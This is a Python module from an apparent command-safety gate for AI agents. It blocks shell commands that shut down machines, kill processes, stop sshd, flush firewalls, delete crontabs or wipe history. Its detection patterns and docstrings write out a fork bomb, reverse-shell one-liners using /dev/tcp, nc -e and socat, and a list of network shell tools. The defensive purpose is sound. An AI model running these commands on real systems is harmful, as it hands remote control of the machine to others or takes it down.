"""System rules: power, processes, firewall, remote access, cron, history."""

from __future__ import annotations

from agentreflex.gate.model import P_BLOCK, P_WARN, Cmd, Hit
from agentreflex.gate.shell import pipes
from agentreflex.gate.shell.paths import Where


def power(cmd: Cmd, where: Where) -> list[Hit]:
    name, args = cmd.name, cmd.args
    if name == "shutdown" and "-c" in args:
        return []
    if (
        name in ("shutdown", "reboot", "halt", "poweroff", "kexec")
        or (name in ("init", "telinit") and args[:1] in (["0"], ["6"], ["1"], ["s"], ["S"]))
        or (
            name == "systemctl"
            and any(
                a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "soft-reboot")
                for a in args
            )
        )
    ):
        return [
            Hit.destructive(
                "GATE-POWER",
                P_BLOCK,
                cmd,
                "This shuts down or restarts the machine. Ask the user to do it.",
            )
        ]
    return []


def kill(cmd: Cmd, where: Where) -> list[Hit]:
    name, args = cmd.name, cmd.args
    if name == "killall5":
        return [
            Hit.destructive(
                "GATE-KILL-ALL", P_BLOCK, cmd, "This kills every process on the machine."
            )
        ]
    if name == "kill":
        targets = [a for a in args if not a.startswith("-") or a == "-1"]
        if "-1" in targets[1:] or "-1" in args[1:] or targets == ["1"] or "1" in targets:
            return [
                Hit.destructive(
                    "GATE-KILL-ALL",
                    P_BLOCK,
                    cmd,
                    "kill -1 (or pid 1) signals every process you own, or init. Kill the "
                    "specific process id instead.",
                )
            ]
    if name in ("pkill", "killall") and any(
        a
        in (
            "sshd",
            "systemd",
            "init",
            "launchd",
            "Xorg",
            "gnome-shell",
            "sshd:",
            "dockerd",
            "containerd",
        )
        for a in args
    ):
        return [
            Hit.destructive(
                "GATE-KILL-SYSTEM",
                P_BLOCK,
                cmd,
                "This kills a system service process. Ask the user.",
            )
        ]
    if (
        name == "pkill"
        and any(a in ("-u", "-U") for a in args)
        and not any(not a.startswith("-") for a in args[args.index("-u") + 2 :] if "-u" in args)
    ):
        return [
            Hit.destructive("GATE-KILL-ALL", P_BLOCK, cmd, "This kills every process of a user.")
        ]
    return []


_SSH_UNITS = frozenset({"ssh", "sshd", "ssh.service", "sshd.service", "ssh.socket", "sshd.socket"})


def services(cmd: Cmd, where: Where) -> list[Hit]:
    name, args = cmd.name, cmd.args
    stopping = {"stop", "disable", "mask", "kill"}
    if (
        name == "systemctl"
        and any(a in stopping for a in args)
        and any(a in _SSH_UNITS for a in args)
    ):
        return [_ssh(cmd)]
    if name == "service" and len(args) >= 2 and args[0] in _SSH_UNITS and args[1] in stopping:
        return [_ssh(cmd)]
    if (
        name == "launchctl"
        and any("ssh" in a for a in args)
        and any(a in ("unload", "stop", "disable", "bootout") for a in args)
    ):
        return [_ssh(cmd)]
    return []


def _ssh(cmd: Cmd) -> Hit:
    return Hit.destructive(
        "GATE-SSHD-STOP",
        P_BLOCK,
        cmd,
        "Stopping sshd can lock everyone out of this machine. Ask the user.",
    )


def firewall(cmd: Cmd, where: Where) -> list[Hit]:
    name, args = cmd.name, cmd.args
    flush = False
    if name in (
        "iptables",
        "ip6tables",
        "iptables-legacy",
        "iptables-nft",
        "ebtables",
        "arptables",
    ):
        flush = any(a in ("-F", "--flush", "-X", "--delete-chain", "-Z") for a in args) or (
            "-P" in args and "DROP" in args
        )
    elif name == "nft":
        flush = "flush" in args or ("delete" in args and "table" in args)
    elif name == "ufw":  # its command after its options: ufw --force reset (rt100)
        flush = [a for a in args if not a.startswith("-")][:1] in (["disable"], ["reset"])
    elif name == "firewall-cmd":
        flush = "--panic-on" in args or any(a.startswith("--remove-service=ssh") for a in args)
    elif name == "pfctl":
        flush = any(a in ("-F", "-d") for a in args)
    if flush:
        return [
            Hit.destructive(
                "GATE-FIREWALL-FLUSH",
                P_BLOCK,
                cmd,
                "This flushes or disables the firewall. Ask the user to change firewall rules.",
            )
        ]
    return []


def cron(cmd: Cmd, where: Where) -> list[Hit]:
    args = cmd.args
    files = [
        a for i, a in enumerate(args) if not a.startswith("-") and (i == 0 or args[i - 1] != "-u")
    ]
    stdin = [t for op, t in cmd.redirects if op == "<"]
    source = files[0] if files else ("-" if stdin or cmd.stdin_from or cmd.stdin_text else "")
    if source == "-" and stdin:
        source = stdin[-1]
    fed = cmd.stdin_text if cmd.stdin_text is not None else pipes.output_text(cmd.stdin_from, {})
    emptied = source == "/dev/null" or (
        source == "-" and pipes.static(fed) and not (fed or "").strip()
    )
    if emptied:
        return [
            Hit.destructive(
                "GATE-CRONTAB-REMOVE",
                P_BLOCK,
                cmd,
                "Installing an empty crontab deletes all of the user's scheduled jobs. "
                "Use crontab -l to read, crontab -e to edit.",
            )
        ]
    if any(
        a == "-r" or (a.startswith("-") and "r" in a[1:] and not a.startswith("--"))
        for a in cmd.args
    ):
        return [
            Hit.destructive(
                "GATE-CRONTAB-REMOVE",
                P_BLOCK,
                cmd,
                "crontab -r deletes all of the user's scheduled jobs without a copy. Use "
                "crontab -l to read, crontab -e to edit.",
            )
        ]
    return []


def history(cmd: Cmd, where: Where) -> list[Hit]:
    args = cmd.args
    if cmd.name == "history" and any(a in ("-c", "-cw", "-wc") or a.startswith("-d") for a in args):
        return [
            Hit.destructive(
                "GATE-HISTORY-WIPE",
                P_BLOCK,
                cmd,
                "This wipes the shell history. Leave the user's history alone.",
            )
        ]
    if cmd.name == "unset" and "HISTFILE" in args:
        return [Hit.destructive("GATE-HISTORY-WIPE", P_WARN, cmd, "This disables shell history.")]
    return []


def fork_bomb_text(cmd: Cmd, where: Where) -> list[Hit]:
    """The classic one-liner even when a parser recovers it oddly."""
    squeezed = cmd.text.replace(" ", "")
    if ":(){:|:&};:" in squeezed or "(){:|:&}" in squeezed:
        return [Hit.destructive("GATE-FORK-BOMB", P_BLOCK, cmd, "This is a fork bomb.")]
    return []


# Clients that carry a byte stream to and from another machine.
_NET_PIPES = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
_SOCAT_NET = (
    "tcp", "tcp4", "tcp6", "tcp-l", "tcp-listen", "udp", "udp4", "udp6", "udp-l",
    "udp-listen", "openssl", "ssl", "openssl-listen", "sctp", "sctp-listen",
)  # fmt: skip


def remote_shell(cmd: Cmd, where: Where) -> list[Hit]:
    """A shell wired to a network socket, a reverse or a bind shell: ``bash -i >&
    /dev/tcp/H/P 0>&1``, ``nc -e /bin/sh H P``, ``ncat -l --sh-exec bash``, ``socat
    exec:'bash -li',pty tcp:H:P``, and the pipe forms (``cat f | sh -i 2>&1 | nc H P >
    f``, ``telnet H P | sh | telnet H P2``): whoever is at the other end runs commands
    here."""
    from agentreflex.gate.shell.walker import SHELLS

    name, args = cmd.name, cmd.args
    wired = False
    if name in SHELLS:
        wired = any(t.startswith(_SOCKET_PATHS) for _, t in cmd.redirects) or (
            cmd.stdin_from is not None and cmd.stdin_from.name in _NET_PIPES and _reads_stdin(cmd)
        )
    elif name in ("nc", "ncat", "netcat"):
        wired = any(
            a in ("--exec", "--sh-exec", "--lua-exec")
            or a.startswith(("--exec=", "--sh-exec=", "--lua-exec="))
            or (_short_exec(a) and _names_program(args[k + 1] if k + 1 < len(args) else ""))
            for k, a in enumerate(args)
        )
    elif name == "socat":
        low = [a.lower() for a in args]
        wired = any(a.startswith(("exec:", "system:")) for a in low) and any(
            a.split(":", 1)[0].split(",", 1)[0] in _SOCAT_NET for a in low if ":" in a
        )
    if not wired and name in _NET_PIPES:
        fed = cmd.stdin_from
        wired = fed is not None and fed.name in SHELLS and _reads_stdin(fed)
    if not wired:
        return []
    return [Hit.destructive("GATE-REMOTE-SHELL", P_BLOCK, cmd, REMOTE_SHELL)]


REMOTE_SHELL = (
    "This wires a shell to a network connection (a reverse or bind shell): whoever is at "
    "the other end can run any command on this machine as the user, read every credential "
    "and delete anything. Never open a shell to the network; if the user needs remote "
    "access, they set up ssh themselves."
)


def _short_exec(word: str) -> bool:
    """``-e``/``-c`` last in a cluster (``-lvpe``): netcat-traditional's, busybox's and
    ncat's program to run (OpenBSD's nc spells TLS options with the same letters, so
    the value decides: :func:`_names_program`)."""
    return word[:1] == "-" and word[1:2] != "-" and len(word) > 1 and word[-1] in "ec"


def _names_program(value: str) -> bool:
    """A value that names a program to run: a shell or interpreter, a path, a command line."""
    from agentreflex.gate.shell.walker import SHELLS

    base = value.rsplit("/", 1)[-1].split(" ", 1)[0].lower()
    return (
        "/" in value
        or " " in value.strip()
        or base in SHELLS
        or base.startswith(("python", "perl", "ruby", "php", "node", "cmd", "powershell", "pwsh"))
    )


def _reads_stdin(cmd: Cmd) -> bool:
    """A shell that takes its commands from its input (no -c, no script operand)."""
    for a in cmd.args:
        if a == "--" or not a.startswith(("-", "+")):
            return False
        if not a.startswith("--") and "c" in a[1:]:
            return False
    return True
